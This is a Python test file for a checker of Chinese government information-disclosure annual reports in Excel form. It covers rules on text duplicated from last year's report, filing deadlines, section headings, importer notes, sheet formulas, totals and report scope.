    this = {f.key: None for f in spec.narrative_fields("五")} | {"s5.problems": LONG}
    f = one(check(this, prior={"text.五": LONG}), "X3")
    assert (f.cell, f.check) == (at("s5.problems"), "X3:五")
    assert f.message == (f"第五部分“存在的主要问题及改进情况”与上年报告的同一部分 100% 相同（{len(LONG)} 字），"
                         "内容雷同。请按本年度实际情况撰写。")
    changed = LONG[: len(LONG) // 2] + "今年新增的问题在于网站栏目维护不及时，数据更新滞后，群众反映的问题未能及时处理。"
    assert check(this, prior={"text.五": changed}).by_rule("X3") == []
    assert check({"s5.problems": LONG[:59]}, prior={"text.五": LONG[:59]}).by_rule("X3") == []
    assert check(this, prior={"text.五": 5}).by_rule("X3") == []


def test_similarity_is_the_share_of_shared_four_character_pieces() -> None:
    assert rules.similarity("甲乙丙丁戊", "甲乙丙丁戊") == 1.0
    assert rules.similarity("甲乙丙丁戊", "甲乙丙丁己") == 0.5
    assert rules.similarity("甲乙丙 丁戊", "甲乙丙丁\n戊") == 1.0
    assert rules.similarity("甲乙丙", "甲乙丙") == 0.0
    assert rules.similarity("", "甲乙丙丁") == 0.0


@pytest.mark.parametrize(("kind", "date", "late"), [
    ("政府部门", "2024-01-31", False), ("政府部门", "2024-02-01", True),
    ("人民政府", "2024-03-31", False), ("人民政府", "2024-04-01", True),
])
def test_p1_the_deadline_by_kind(kind: str, date: str, late: bool) -> None:
    changes = {"meta.kind": kind, "meta.report_date": dt.date.fromisoformat(date)}
    found = check(changes).by_rule("P1")
    assert bool(found) is late
    if late:
        who, deadline = ("人民政府本级", "2024年3月31日") if kind == "人民政府" else ("政府部门", "2024年1月31日")
        assert found[0].message == (f"发布日期 {found[0].values['date']} 晚于规定期限 {deadline}：{who}应于次年"
                                    f"{deadline[5:]}前公布年度报告。")


def test_p1_without_a_date_or_year() -> None:
    (f,) = check({"meta.report_date": None}).by_rule("P1")
    assert (f.code, f.cell) == ("P1.missing", at("meta.report_date"))
    assert check({"meta.report_date": None}, missing=frozenset({"meta.report_date"})).by_rule("P1") == []
    assert check({"meta.year": None}).by_rule("P1") == []


@pytest.mark.parametrize(("key", "value", "hint"), [
    ("meta.agency", None, "报告标题和落款需要机关全称。"), ("meta.year", 1999, "报告标题和统计期需要4位年份，如2023。"),
    ("meta.year", "二〇二三", "报告标题和统计期需要4位年份，如2023。"), ("meta.kind", "局", "请从下拉列表选择。"),
    ("meta.level", "区级", "请从下拉列表选择。"),
])
def test_s4_identity_fields(key: str, value: Any, hint: str) -> None:
    f = one(check({key: value}), "S4")
    assert f.cell == at(key) and f.message.endswith(hint)
    assert f"现为“{'' if value is None else value}”" in f.message
    assert check({key: value}, missing=frozenset({key})).by_rule("S4") == []


# ---- published reports: what the importer found, as the rules report it -------------------------------------------

def imported(info: dict[str, Any], changes: dict[str, Any] | None = None) -> Report:
    d = data(changes)
    return api.check_data(dataclasses.replace(d, props={IMPORT_PROPS_KEY: json.dumps(info, ensure_ascii=False)}))


HEADINGS = [[s.number, s.number, f"{s.number}、{s.title}"] for s in spec.SECTIONS]


def test_s1_sections_missing_twice_out_of_order_renumbered_or_retitled() -> None:
    assert imported({"headings": HEADINGS}).by_rule("S1") == []
    hs = [h for h in HEADINGS if h[0] != "三"] + [["二", "二", "二、主动公开政府信息情况（续）"]]
    got = {f.check: f for f in imported({"headings": hs}).by_rule("S1")}
    assert set(got) == {"S1:三:missing", "S1:二:twice"}  # the second 二 is no section out of order
    assert got["S1:三:missing"].message.endswith("缺失。六个部分缺一不可，请补上这一部分。")
    assert "出现了 2 次（“二、主动公开政府信息情况”、“二、主动公开政府信息情况（续）”）" in got["S1:二:twice"].message
    swapped = [HEADINGS[0], HEADINGS[2], HEADINGS[1], *HEADINGS[3:]]
    (f,) = imported({"headings": swapped}).by_rule("S1")
    assert (f.check, f.sheet) == ("S1:二:order", spec.NARRATIVE_SHEET) and "排在第三部分之后" in f.message
    renumbered = [*HEADINGS[:4], ["五", "四", "四、存在的主要问题及改进情况"], HEADINGS[5]]
    (f,) = imported({"headings": renumbered}).by_rule("S1")
    assert (f.code, f.check) == ("S1.numbered", "S1:五:numbered")
    retitled = [*HEADINGS[:5], ["六", "六", "六、其他需要报告的事项 (补充)"]]
    (f,) = imported({"headings": retitled}).by_rule("S1")
    assert (f.code, f.severity) == ("S1.variant", Severity.WARNING)
    spaced = [*HEADINGS[:5], ["六", "六", "六、 其他需要报告的 事项"]]
    assert imported({"headings": spaced}).by_rule("S1") == []


def test_s3_an_old_or_mixed_format() -> None:
    (f,) = imported({"headings": HEADINGS, "format": "2019", "markers": ["收到和处理政府信息公开申请情况"]}).by_rule("S3")
    assert (f.code, f.sheet) == ("S3", "表二") and "：“收到和处理政府信息公开申请情况”。" in f.message
    (f,) = imported({"headings": HEADINGS, "format": "hybrid", "markers": ["表三旧行"]}).by_rule("S3")
    assert (f.code, f.sheet) == ("S3.hybrid", "表三") and "：表三旧行。" in f.message
    assert imported({"headings": HEADINGS, "format": "2021"}).by_rule("S3") == []


def test_the_importers_notes_become_findings() -> None:
    notes = [
        {"kind": "split", "key": "t3.new.natural", "message": "合为 12。", "where": "第3页"},
        {"kind": "split", "key": "", "message": "表四合并。"},
        {"kind": "label", "key": "t3.new.natural", "detail": {"expected": "官方", "actual": "报告"}},
        {"kind": "label", "key": "t3.new.natural"},
        {"kind": "unit", "key": "", "detail": {"value": "3500元", "row": "行政事业性收费"}},
        {"kind": "unit", "key": FEE, "detail": {"value": "3500元"}},
    ]
    r = imported({"headings": HEADINGS, "notes": notes})
    a7 = sorted((f.cell, f.message) for f in r.by_rule("A7"))
    assert a7 == [("", "导入提示：表四合并。"), (at("t3.new.natural"), "导入提示：合为 12。（原文位置：第3页）")]
    (drift,) = r.by_rule("S2")
    assert (drift.code, drift.cell, drift.check) == ("S2.drift", at("t3.new.natural"), "S2:label:t3.new.natural")
    assert "应为“官方”，报告中为“报告”" in drift.message
    (unit,) = r.by_rule("V2")
    assert (unit.code, unit.cell) == ("V2.unit", at(FEE))
    assert unit.message.startswith("表二“行政事业性收费”写作“3500元”：金额以“元”为单位")


def test_a_published_reports_printed_totals_and_numbering_are_its_own() -> None:
    key = "t3.new.total"
    d = data({key: 1, "s1.platform": "（四）平台建设。"})
    d = dataclasses.replace(d, formulas={}, props={IMPORT_PROPS_KEY: json.dumps({"headings": HEADINGS})})
    r = api.check_data(d)
    assert r.by_rule("S2") == [] and r.by_rule("T9") == []
    blank = api.check_data(dataclasses.replace(d, values={**d.values, key: None}))
    (f,) = [f for f in blank.by_rule("V3") if f.check == f"V3:{key}"]
    assert f.cell == at(key)
    absent = {IMPORT_PROPS_KEY: json.dumps({"headings": HEADINGS, "absent": [key, "t3.new.natural"]})}
    none = api.check_data(dataclasses.replace(d, values={**d.values, key: None, "t3.new.natural": None}, props=absent))
    assert not [f for f in none.by_rule("V3") if f.key in (key, "t3.new.natural")]


@pytest.mark.parametrize("raw", ["not json", "[1, 2]", ""])
def test_unreadable_import_notes_mean_a_workbook(raw: str) -> None:
    d = dataclasses.replace(data({"s1.platform": "（四）平台建设。"}), props={IMPORT_PROPS_KEY: raw})
    assert [f.code for f in api.check_data(d).by_rule("T9")] == ["T9"]


# ---- expr: the formulas the sheets carry, and their evaluation -------------------------------------------------------

def _ref(key: str) -> str:
    return spec.LAYOUT.locations[key].a1 if not key.startswith("prior.") else f"上年!{key[6:]}"


def test_identities_compile_to_the_formulas_the_summary_sheet_shows() -> None:
    by_id = {i.id: i.cmp.excel(_ref) for i in catalogue.instances()}
    assert by_id["A3:natural"] == "D7+D8=D30+D31"
    assert by_id["A6:normative"] == "B7<=D7+C7"
    assert by_id["X2:normative"] == "D7=上年!t2.normative.in_force+B7-C7"
    assert by_id["X1:natural"] == "D8=上年!t3.carried_out.natural"
    assert by_id["A1:new"] == "J7=SUM(D7,E7,F7,G7,H7,I7)"


def test_a_difference_of_several_keys_is_bracketed() -> None:
    keys = ("t3.new.natural", "t3.new.business", "t3.new.research", "t3.new.nonprofit")
    assert expr.Lin(keys[:1], keys[1:3]).excel(_ref) == "D7-(E7+F7)"
    assert expr.Lin(keys[:1], keys[1:2]).excel(_ref) == "D7-E7"
    assert expr.Lin(keys[:1], keys).excel(_ref) == "D7-SUM(D7,E7,F7,G7)"
    assert expr.Lin(keys[:3]).excel(_ref) == "D7+E7+F7"
    assert expr.Compare(expr.Lin(keys[:1]), "<=", expr.Lin(keys[1:2])).excel(_ref) == "D7<=E7"


def test_a_derived_total_is_a_sum_over_ranges() -> None:
    f = structure.expected().formulas
    assert (f["t3.new.total"], f["t3.total.natural"], f["t4.review.total"]) == \
        ("=SUM(D7:I7)", "=SUM(D9:D29)", "=SUM(A7:D7)")
    loc = spec.LAYOUT.locations
    cells = [loc[k] for k in ("t3.new.natural", "t3.new.research", "t3.new.nonprofit", "t3.new.other_org")]
    assert expr.sum_formula(cells) == "=SUM(D7,F7:G7,I7)"
    assert expr.sum_formula(reversed(cells)) == "=SUM(D7,F7:G7,I7)"
    assert expr.sum_formula([loc["t3.new.natural"], loc["t3.carried_in.natural"], loc["t3.new.business"]]) == \
        "=SUM(D7:E7,D8)"
    assert expr.sum_formula([loc["t3.new.natural"]]) == "=SUM(D7)"
    diagonal = [loc["t3.new.natural"], loc["t3.carried_in.business"]]
    assert expr.sum_formula(diagonal) == "=SUM(D7,E8)"


def test_comparisons_are_exact_to_six_decimals_and_unknown_terms_undecided() -> None:
    vals = {"a": 0.1, "b": 0.2, "c": 0.3, "d": None, "e": 2}
    cmp = expr.Compare(expr.Lin(("a", "b")), "=", expr.Lin(("c",)))
    assert cmp.eval(vals.get) == (True, pytest.approx(0.3), 0.3)
    assert expr.Compare(expr.Lin(("a", "d")), "=", expr.Lin(("c",))).eval(vals.get) is None
    assert expr.Compare(expr.Lin(("c",)), "=", expr.Lin(("a",), ("d",))).eval(vals.get) is None
    assert expr.Compare(expr.Lin(("e",)), "<=", expr.Lin(("e",))).eval(vals.get) == (True, 2, 2)
    assert expr.Compare(expr.Lin(("e",), ("a",)), "<=", expr.Lin(("c",))).eval(vals.get) == (False, 1.9, 0.3)
    assert expr.Compare(expr.Lin(("e",)), "=", expr.Lin(("e",), ("e",))).eval(vals.get) == (False, 2, 0)
    assert cmp.keys == ("a", "b", "c")


def test_input_keys_expand_totals_to_the_cells_typed_in() -> None:
    assert expr.input_keys(("t3.new.total", "t3.new.natural", "prior.x")) == \
        (*(f"t3.new.{c}" for c, _ in spec.T3_COLS if c != "total"), "prior.x")
    assert expr.input_keys(("t3.total.natural",))[:2] == ("t3.granted.natural", "t3.partial.natural")


def test_a_formula_over_other_cells_is_not_intact() -> None:
    loc = spec.LAYOUT.locations
    assert expr.formula_is_intact("t3.new.total", "=SUM(D7:I7)", loc)
    assert not expr.formula_is_intact("t3.new.total", "=SUM(D7:H7)", loc)
    assert expr.derived_formula("t3.new.total", loc) == "=SUM(D7:I7)"


# ---- derive: the numbers the rules see ------------------------------------------------------------------------------

@pytest.mark.parametrize(("v", "n"), [(None, 0), (0, 0), (3, 3), (3.0, 3), (True, None), (False, None), (-1, None),
                                      (2.5, None), ("3", None), (-0.0, 0)])
def test_count_value(v: Any, n: Any) -> None:
    got = derive.count_value(v)
    assert got == n and (got is None or type(got) is int)


@pytest.mark.parametrize(("v", "n"), [(None, 0), (0, 0), (0.0001, 0.0001), (12.3456, 12.3456), (0.00001, None),
                                      (-0.0001, None), (True, None), ("1", None), (5, 5)])
def test_money_value(v: Any, n: Any) -> None:
    assert derive.money_value(v) == n


def test_effective_values_trust_inputs_recompute_intact_totals_and_take_overwritten_ones_at_their_word() -> None:
    d = data({"t3.new.natural": 4, "t3.new.business": "x", "t3.carried_in.natural": 2})
    vals = derive.effective_values(d)
    assert vals["t3.new.natural"] == 4 and vals["t3.new.business"] is None and vals["t3.new.total"] is None
    assert vals["t3.carried_in.total"] == 2
    d = data({"t3.new.natural": 4, "t3.carried_in.total": 9, "t3.new.total": 5},
             formulas={"t3.new.total": "=SUM(D7:H7)", "t3.granted.research": "=1"})
    d = dataclasses.replace(d, formulas={k: v for k, v in d.formulas.items() if k != "t3.carried_in.total"})
    vals = derive.effective_values(d)
    assert vals["t3.carried_in.total"] == 9  # overwritten: the typed number
    assert vals["t3.new.total"] is None  # another formula: unknown
    assert vals["t3.granted.research"] is None  # a formula in an input cell
    assert vals["t3.carried_in.natural"] == 0
    d = data({"t3.new.natural": 4}, missing=frozenset({"t3.new.natural", "t3.new.total"}))
    vals = derive.effective_values(d)
    assert vals["t3.new.natural"] is None and vals["t3.new.total"] is None and vals["t3.total.total"] == 1
    assert derive.effective_values(data({FEE: 0.5}))[FEE] == 0.5
    assert derive.effective_values(data({FEE: 3}))[FEE] == 3


def test_totals_follow_their_parts() -> None:
    inputs = {k: 1 for k in spec.INPUT_KEYS if k.startswith("t3.")}
    totals = derive.compute_totals(inputs)
    assert totals["t3.new.total"] == 6 and totals["t3.total.natural"] == 21 and totals["t3.total.total"] == 126
    totals = derive.compute_totals({**inputs, "t3.granted.natural": None})
    assert totals["t3.granted.total"] is None and totals["t3.total.total"] is None and totals["t3.new.total"] == 6
    assert derive.compute_totals({})["t4.review.total"] == 0


def test_last_years_figures() -> None:
    d = data(prior={"t2.normative.in_force": 5, "t3.carried_out.natural": -1, "t3.carried_out.business": 2.5,
                    "t3.carried_out.research": None, "t2.rules.in_force": 0})
    assert derive.prior_values(d) == {"t2.normative.in_force": 5, "t2.rules.in_force": 0}
    carried = derive.carry_forward(data({"t3.carried_out.natural": 3, "t2.normative.in_force": "x"}))
    assert carried["t3.carried_out.natural"] == 3 and carried["t3.carried_out.total"] == 3
    assert "t2.normative.in_force" not in carried and set(carried) <= set(spec.PRIOR_KEYS)
    assert derive.carry_forward({"t3.carried_out.natural": 2, "t2.rules.in_force": None, "other": 1}) == \
        {"t3.carried_out.natural": 2}


# ---- the rest of what the mutation run found unpinned ----------------------------------------------------------------

def test_a_formula_typed_into_a_count_cell_is_quoted_with_the_fix() -> None:
    f = one(check({CELL: None}, formulas={CELL: "=1+2"}), "V1")
    assert f.message.endswith("现为“=1+2”。请直接填写数字，不要在填报单元格中输入公式。")


@pytest.mark.parametrize(("n", "shown"), [(6, "D9、D10、D11、D12、D13、D14"), (7, "D9、D10、D11、D12、D13、D14 等 7 处")])
def test_a_list_of_cells_is_cut_after_six(n: int, shown: str) -> None:
    st = pristine()
    cells = [f"D{r}" for r in range(9, 9 + n)]
    assert all(a1 in st.validations["表三"] for a1 in cells)
    kept = {a1: k for a1, k in st.validations["表三"].items() if a1 not in cells}
    (f,) = s2(dataclasses.replace(st, validations={**st.validations, "表三": kept}))
    assert f"（表三 {shown}）" in f.message


def test_the_hidden_sheets_findings_sit_on_that_sheet() -> None:
    (f,) = s2(props={"template_id": ""})
    assert (f.sheet, f.cell) == (spec.HIDDEN_SHEET, "")
    d = dataclasses.replace(data(), structure=pristine(), props={"format_version": spec.FORMAT_VERSION})
    (f,) = api.check_data(d).by_rule("S2")
    assert (f.sheet, f.cell) == (spec.HIDDEN_SHEET, "")
    assert f"template_id 应为“{spec.TEMPLATE_ID}”，现为“”；layout_version 应为“1”或“2”，现为“”）" in f.message


def test_whole_workbook_findings_name_no_cell() -> None:
    st = pristine()
    (f,) = s2(dataclasses.replace(st, sheets=tuple(s for s in st.sheets if s != "表四")),
              missing=frozenset(k for k in spec.ALL_KEYS if spec.LAYOUT.locations[k].sheet == "表四"))
    assert f.cell == ""
    moved = {k: dataclasses.replace(loc, sheet="申请情况") if loc.sheet == "表三" else loc
             for k, loc in spec.LAYOUT.locations.items()}
    d = dataclasses.replace(data(), locations=moved, structure=dataclasses.replace(
        st, sheets=tuple("申请情况" if s == "表三" else s for s in st.sheets)), props=PROPS)
    (f,) = api.check_data(d).by_rule("S2")
    assert f.cell == ""


def test_a_section_heading_written_with_a_comma_is_the_official_one() -> None:
    four = next(s for s in spec.SECTIONS if s.number == "四")
    assert "、" in four.title
    written = [*HEADINGS[:3], ["四", "四", "四、" + four.title.replace("、", ",")], *HEADINGS[4:]]
    assert imported({"headings": written}).by_rule("S1") == []


def test_t1_names_every_cell_of_a_sum() -> None:
    f = one(check({"s1.on_request": "本年度予以公开和部分公开的申请共9件。"}), "T1")
    granted, partial = (" ".join(p for p in spec.labels_of(f"t3.{r}.total") if p) for r in ("granted", "partial"))
    assert f.values["where"] == f"表三“{granted}”与“{partial}”之和"
    assert f"而表三“{granted}”与“{partial}”之和为 " in f.message


def test_a_vertical_run_of_cells_is_one_range() -> None:
    loc = spec.LAYOUT.locations
    column = [loc[f"t3.{r}.natural"] for r in ("granted", "partial", "refused_secret")]
    assert expr.sum_formula(column) == f"=SUM({column[0].a1}:{column[-1].a1})"
    assert expr.sum_formula([column[0], column[2]]) == f"=SUM({column[0].a1},{column[2].a1})"


def test_the_catalogue_as_listed_by_xl_addin_rules() -> None:
    rows = {r["code"]: r for r in catalogue.rows()}
    assert rows["V2.yuan"] == {
        "code": "V2.yuan", "id": "V2", "variant": "yuan", "group": catalogue.CATALOGUE["V2.yuan"].group.value,
        "severity": "warning", "title": "收费金额疑似按元填写（≥1000万元）", "basis": "表二 第二十条第（八）项 单位：万元",
        "message": catalogue.CATALOGUE["V2.yuan"].message, "live": True, "needs_last_year": False}
    assert rows["X2"]["needs_last_year"] is True and rows["T9"]["live"] is False and rows["T9"]["variant"] == ""
    assert list(rows) == list(catalogue.CATALOGUE)
    assert [e.code for e in catalogue.entries_of("V2")] == ["V2", "V2.yuan", "V2.unit"]
    assert set(catalogue.live_codes()) == {"V1", "V2", "V2.yuan", "V3", "A1", "A2", "A3", "A4", "A6", "X1", "X2"}
    assert catalogue.file_error("empty").text() == "文件是空的（0 字节），可能没有保存完整，请重新保存或重新发送。"
    assert catalogue.file_error("timeout").text(detail=30).startswith("读取超过 30 秒仍未完成")


def test_input_value_by_kind_and_last_years_numbers_in_the_context() -> None:
    assert derive.input_value(FEE, 0.5) == 0.5
    assert derive.input_value("t3.new.natural", 0.5) is None
    assert derive.input_value("t3.new.natural", None) == 0
    ctx = rules.Context(data(prior={"t2.normative.in_force": 5}))
    assert ctx.number("prior.t2.normative.in_force") == 5
    assert ctx.number("t3.new.total") == 1 and ctx.number("prior.t3.carried_out.natural") is None


def test_v3_a_row_names_its_first_input_and_its_own_labels() -> None:
    (f,) = check({"t3.new.business": None}).by_rule("V3")
    assert (f.cell, f.check, f.key) == (at("t3.new.business"), "V3:t3.new.natural", "t3.new.business")
    assert f.labels == ("一、本年新收政府信息公开申请数量", "")
    keys = [f"t3.new.{c}" for c, _ in spec.T3_COLS if c != "total"]
    (f,) = check({k: None for k in keys}).by_rule("V3")
    assert f.cell == f"{at(keys[0])}:{at(keys[-1])}"
    (f,) = check({k: None for k in keys[:4]}).by_rule("V3")
    assert "（" + "、".join(at(k) for k in keys[:4]) + "）" in f.message
    (f,) = check({k: None for k in keys[:5]}).by_rule("V3")
    assert f"（{at(keys[0])} 至 {at(keys[4])}）" in f.message


def test_a_whole_workbook_finding_has_its_own_check_id_and_no_key() -> None:
    (f,) = s2(dataclasses.replace(pristine(), structure_locked=False))
    assert (f.sheet, f.cell, f.key, f.check) == ("", "", "", "S2:protection")
    (f,) = s2(dataclasses.replace(pristine(), fingerprint="0123456789abcdef"))
    assert (f.sheet, f.cell, f.key, f.check) == ("", "", "", "S2:fingerprint")
    assert catalogue.check_id("S2.protection") == "S2:protection"
    assert one(check({CELL: "x"}), "V1").key == CELL


def test_an_unseen_part_is_skipped_and_the_rest_still_judged() -> None:
    st = pristine()
    first_label, (last_label, text) = next(iter(st.labels)), list(st.labels.items())[-1]
    labels = {k: v for k, v in st.labels.items() if k != first_label} | {last_label: text + "X"}
    assert s2_codes(s2(dataclasses.replace(st, labels=labels))) == [("S2.label", *last_label)]
    sheets = list(st.merges)
    merges = {s: m for s, m in st.merges.items() if s != sheets[0]} | {sheets[-1]: st.merges[sheets[-1]] | {"A90:B90"}}
    assert s2_codes(s2(dataclasses.replace(st, merges=merges))) == [("S2.merge", sheets[-1], "A90:B90")]
    sheets = list(st.unlocked)
    unlocked = {s: u for s, u in st.unlocked.items() if s != sheets[0]} | {sheets[-1]: st.unlocked[sheets[-1]] | {"A1"}}
    assert s2_codes(s2(dataclasses.replace(st, unlocked=unlocked))) == [("S2.unlocked", sheets[-1], "A1")]
    first, last = spec.DERIVED_KEYS[0], spec.DERIVED_KEYS[-1]
    d = data({last: 3}, missing=frozenset({first}))
    d = dataclasses.replace(d, formulas={k: v for k, v in d.formulas.items() if k != last})
    assert [(f.code, f.cell) for f in api.check_data(d).by_rule("S2")] == [("S2.literal", at(last))]


def test_t1_says_nothing_of_a_figure_whose_cell_is_bad() -> None:
    r = check({"t3.new.natural": "x", "s1.on_request": "本年度共收到政府信息公开申请1件。"})
    assert r.by_rule("T1") == [] and len(r.by_rule("V1")) == 1


def test_a_formula_in_the_fee_cell_is_quoted_with_the_fix() -> None:
    f = one(check({FEE: None}, formulas={FEE: "=1/2"}), "V2")
    assert f.message.endswith("现为“=1/2”。请直接填写数字，不要输入公式。")


def test_a_fee_off_four_decimals_by_float_noise_only_is_accepted() -> None:
    assert derive.money_value(1e-9) == 1e-9
    assert check({FEE: 0.35 + 1e-12}).by_rule("V2") == []


def test_import_notes_missing_their_details_still_read_plainly() -> None:
    notes = [{"kind": "label", "key": "t3.new.natural", "detail": {"note": "x"}},
             {"kind": "label", "key": "t9.unknown", "detail": {"expected": "甲", "actual": "乙"}},
             {"kind": "unit", "key": ""}]
    r = imported({"headings": HEADINGS, "notes": notes})
    drift = sorted((f.cell, f.message) for f in r.by_rule("S2"))
    assert drift == [("", "表格文字与官方不同：应为“甲”，报告中为“乙”。官方表格不得改动。"),
                     (at("t3.new.natural"), "表格文字与官方不同：应为“”，报告中为“”。官方表格不得改动。")]
    (unit,) = r.by_rule("V2")
    assert unit.check == "V2:import:unit"
    assert unit.message == "表二“”写作“”：金额以“元”为单位，表格中的金额应以万元为单位（1元=0.0001万元）。"


# ---- unread tables and rows (contract U), zero written as a sign: P2, V3.zero ------------------------------------------

def test_the_new_entries_levels_are_pinned() -> None:
    sev = {code: catalogue.CATALOGUE[code].severity for code in ("P2", "P2.row", "V3.zero", "T1.scope", "T1.unsure")}
    assert sev == {"P2": Severity.ERROR, "P2.row": Severity.ERROR, "V3.zero": Severity.WARNING,
                   "T1.scope": Severity.WARNING, "T1.unsure": Severity.WARNING}
    assert not catalogue.CATALOGUE["V3.zero"].live and catalogue.CATALOGUE["V3"].live
    assert [e.code for e in catalogue.entries_of("T1")] == ["T1", "T1.scope", "T1.unsure"]


def _unread(what: str, keys: list[str], changes: dict[str, Any] | None = None) -> Report:
    info = {"headings": HEADINGS, "unread": [{"table": "t3", "what": what, "keys": keys, "why": "原因", "where": "位置"}]}
    table = [k for k in spec.DATA_CELLS if k.startswith("t3.")] if what == "table" else keys
    return imported(info, {**dict.fromkeys(table), **(changes or {})})


def test_an_unread_row_is_one_p2_and_each_rule_over_it_is_silent() -> None:
    keys = [k for k in spec.DATA_CELLS if k.startswith("t3.new.")]
    report = _unread("row", keys, {"s1.on_request": "本年度共收到政府信息公开申请9件。"})
    base = {f.check for f in imported({"headings": HEADINGS}).findings}  # the sample's totals: blank, not formulas
    assert [(f.code, f.cell, f.check) for f in report.findings if f.check not in base] == [
        ("P2.row", at("t3.new.natural"), "P2:t3.new.natural")]
    # the same row blank but read: V3 and A2/A3 and T1 speak
    read = imported({"headings": HEADINGS}, {**dict.fromkeys(keys), "s1.on_request": "本年度共收到政府信息公开申请9件。"})
    assert {"V3", "A3", "T1"} <= {f.rule for f in read.findings}


def test_an_unread_table_is_one_p2_naming_the_table() -> None:
    report = _unread("table", [])
    assert [(f.code, f.sheet, f.check) for f in report.findings if f.sheet == "表三"] == [("P2", "表三", "P2:t3")]
    assert report.by_rule("P2")[0].message.startswith("表三“收到和处理政府信息公开申请情况”未能读取：原因（查找位置：位置）。")


def test_zero_as_notes_of_two_tables_are_two_findings() -> None:
    notes = [{"kind": "zero-as", "key": k, "source": s} for k, s in
             (("t3.new.legal", "—"), ("t3.new.research", "—"), ("t4.review.upheld", "无"), ("nonsense", "/"))]
    report = imported({"headings": HEADINGS, "notes": notes})
    zero = [f for f in report.findings if f.code == "V3.zero"]
    assert [(f.sheet, f.values["n"], f.check) for f in zero] == [("表三", 2, "V3:t3:zero"), ("表四", 1, "V3:t4:zero")]
    assert "有 2 个单元格没有写数字，而是写作“—”（“" in zero[0].message and "而是写作“无”（“" in zero[1].message


# ---- T1 and the report's scope (issue 22 item 4): pinned here for the mutation run ----------------------------------

GOV = {"meta.kind": "人民政府", "meta.agency": "某某县人民政府", "t3.new.natural": 3, "t3.granted.natural": 3}


def scoped(text: str, scope: str | None = None, **changes: Any) -> list[Finding]:
    d = data({**GOV, "s1.on_request": text, **changes})
    props = {rules.SCOPE_PROPS_KEY: scope} if scope else {}
    return api.check_data(dataclasses.replace(d, props=props)).by_rule("T1")


def test_t1_scope_decides_error_scope_or_unsure() -> None:
    own, region = "县政府办受理政府信息公开申请1件。", "全县共受理政府信息公开申请1件。"
    assert [f.code for f in scoped(own, "汇总")] == ["T1.scope"]
    assert [f.code for f in scoped(region, "本级")] == ["T1.scope"]
    assert [f.code for f in scoped(own, "本级")] == ["T1"]
    assert [f.code for f in scoped(region, "汇总")] == ["T1"]
    assert [f.code for f in scoped("共受理政府信息公开申请1件。", "汇总")] == ["T1.unsure"]
    assert [f.code for f in scoped("共受理政府信息公开申请1件。", "本级")] == ["T1"]
    assert [f.code for f in scoped("共受理政府信息公开申请1件。")] == ["T1"]  # nothing says two scopes
    assert [f.code for f in scoped(own)] == ["T1.unsure"]  # a 人民政府 of unknown scope, a 本级 sentence
    assert [f.code for f in scoped(own, **{"meta.kind": "政府部门"})] == ["T1"]  # a department: 本级
    assert [f.code for f in scoped(own, **{"meta.kind": "", "meta.agency": "某某"})] == ["T1.unsure"]
    assert scoped("全县共受理政府信息公开申请3件。", "本级") == []  # the same number: nothing to say
    assert scoped("县政府办受理政府信息公开申请3件。", "汇总") == []


def test_t1_scope_messages_name_the_region_and_how_the_scope_is_known() -> None:
    (f,) = scoped("县政府办受理政府信息公开申请1件。", "汇总")
    assert f.values["said_scope"] == "本机关（“县政府办”）" and f.values["table_scope"] == "全县"
    assert f.values["scope_how"] == "名册“报告范围”为汇总" and (f.values["said"], f.values["actual"]) == (1, 3)
    assert f.values["fix"] == "汇总报告应写明全县的数字，请改写或补充全县的数字。"
    (f,) = scoped("全区共受理政府信息公开申请1件。", "本级", **{"meta.agency": "某某区人民政府"})
    assert (f.values["said_scope"], f.values["table_scope"]) == ("全区", "本机关")
    (f,) = scoped("共受理政府信息公开申请1件。", "汇总", **{"meta.agency": "", "meta.level": "市级"})
    assert f.values["region"] == "市"  # no agency, no 全X: by the level
    (f,) = scoped("共受理政府信息公开申请1件。", "汇总", **{"meta.agency": "", "meta.level": ""})
    assert f.values["region"] == "县（市、区）"
    (f,) = scoped("全州收到申请3件。\n共受理政府信息公开申请1件。", "汇总", **{"meta.agency": "某某管委会"})
    assert f.values["region"] == "州"  # by the text's own 全X


def test_report_scope_sources_in_order() -> None:
    d = data({**GOV, "s1.on_request": "全县受理政府信息公开申请3件。"})
    with_props = dataclasses.replace(d, props={rules.SCOPE_PROPS_KEY: "本级"})
    assert rules.report_scope(with_props, {"scope": "汇总"}, "汇总") == ("汇总", "调用方给定的报告范围为汇总")
    assert rules.report_scope(with_props, {"scope": "汇总"}) == ("本级", "名册“报告范围”为本级")
    assert rules.report_scope(d, {"scope": "本级"}) == ("本级", "导入时识别的报告范围为本级")
    assert rules.report_scope(d, {"scope": "全部"}, "全部") == ("汇总", "按正文“全县”的数字推断为汇总报告")
    dept = data({"meta.kind": "政府部门", "s1.on_request": "全县受理政府信息公开申请3件。"})
    assert rules.report_scope(dept, None) == ("本级", "机关类别为政府部门，按本级报告")
    assert rules.report_scope(data({**GOV, "s1.on_request": "全县政务公开。县政府办受理申请3件。"}), None) == ("", "")
    assert rules.Context(d, scope="本级").scope == ("本级", "调用方给定的报告范围为本级")


def test_unread_entries_keep_only_the_formats_tables_and_keys() -> None:
    info = {"unread": [{"table": "t4", "what": "table", "keys": ["x"], "why": "w", "where": "p"},
                       {"table": "t3", "what": "row", "keys": ["t3.new.natural", "t4.review.total", 1]},
                       {"table": "t3", "what": "row", "keys": "t3.new.natural"}, {"table": "t2", "what": "cell"}]}
    got = rules.unread_entries(info)
    t4 = next(t for t in spec.TABLES if t.id == "t4")
    assert [(u["table"], u["what"], u["keys"], u["why"], u["where"]) for u in got] == [
        ("t4", "table", tuple(t4.by_key), "w", "p"), ("t3", "row", ("t3.new.natural",), "", "")]
    assert rules.unread_keys(got) == frozenset({*t4.by_key, "t3.new.natural"})
    assert rules.unread_entries(None) == () and rules.unread_entries({"unread": None}) == ()


def test_an_unread_row_without_why_or_where_says_so_plainly() -> None:
    info = {"headings": HEADINGS, "unread": [{"table": "t4", "what": "row", "keys": ["t4.review.upheld"]}]}
    (f,) = imported(info, {"t4.review.upheld": None}).by_rule("P2")
    assert f.message.startswith("表四“行政复议”一行未能读取：未找到与官方表格对应的内容（查找位置：全文）。")
